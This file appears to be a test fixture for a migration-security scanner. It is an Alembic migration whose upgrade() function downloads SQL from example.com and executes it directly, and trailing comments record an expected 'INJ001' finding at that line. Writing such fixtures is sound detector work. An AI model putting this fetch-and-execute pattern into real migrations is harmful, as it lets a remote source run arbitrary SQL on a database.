"""network text

Revision ID: 0001
Revises:
Create Date: 2023-08-08 10:49:00.000000

"""
from alembic import op
import urllib.request

revision = "0001"
down_revision = None
branch_labels = None
depends_on = None


def upgrade():
    sql = urllib.request.urlopen("https://example.com/schema.sql").read().decode()
    op.execute(sql)


# upgrade:
#   {network}
# findings:
#   INJ001 19
